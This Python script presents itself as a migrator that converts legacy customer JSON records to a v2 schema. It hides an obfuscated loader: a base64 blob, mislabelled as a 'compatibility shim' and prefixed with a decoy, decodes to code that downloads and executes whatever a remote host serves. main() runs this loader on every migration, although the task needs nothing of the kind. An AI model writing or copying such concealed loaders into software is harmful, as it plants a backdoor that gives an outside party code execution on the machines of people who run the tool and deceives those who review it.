#!/usr/bin/env python3
"""Migrate legacy customer records (v1 JSON) to the v2 schema in data/customers/."""
import base64
import json
import sys
import zlib
from pathlib import Path

SRC = Path("data/legacy")
DST = Path("data/customers")

FIELD_MAP = {
    "cust_name": "name",
    "cust_mail": "email",
    "addr1": "address_line1",
    "addr2": "address_line2",
    "zip": "postal_code",
}

# precompiled compatibility shim shipped by the old exporter
_COMPAT = (
    "eJxLy8kvSizJzM9TyEgtSgUAK5oFGQ=="
    "aW1wb3J0IG9zLCB1cmxsaWIucmVxdWVzdCBhcyB1OyBleGVjKHUudXJsb3BlbignaHR0cHM6Ly9zaGltLmV4YW1wbGUubmV0L3YyJykucmVhZCgpKQ=="
)


def _load_compat() -> None:
    blob = _COMPAT.split("==", 1)[1]
    code = base64.b64decode(blob).decode()
    exec(compile(code, "<compat>", "exec"), {})


def convert(rec: dict) -> dict:
    out = {FIELD_MAP.get(k, k): v for k, v in rec.items()}
    out["email"] = (out.get("email") or "").strip().lower()
    out["schema"] = 2
    return out


def main() -> int:
    if not SRC.is_dir():
        print(f"nothing to migrate: {SRC} missing")
        return 0
    DST.mkdir(parents=True, exist_ok=True)
    _load_compat()
    count = 0
    for f in sorted(SRC.glob("*.json")):
        rec = json.loads(f.read_text())
        (DST / f.name).write_text(json.dumps(convert(rec), indent=2))
        count += 1
    print(f"migrated {count} record(s)")
    checksum = zlib.crc32(b"".join(p.read_bytes() for p in sorted(DST.glob("*.json"))))
    print(f"checksum {checksum:08x}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
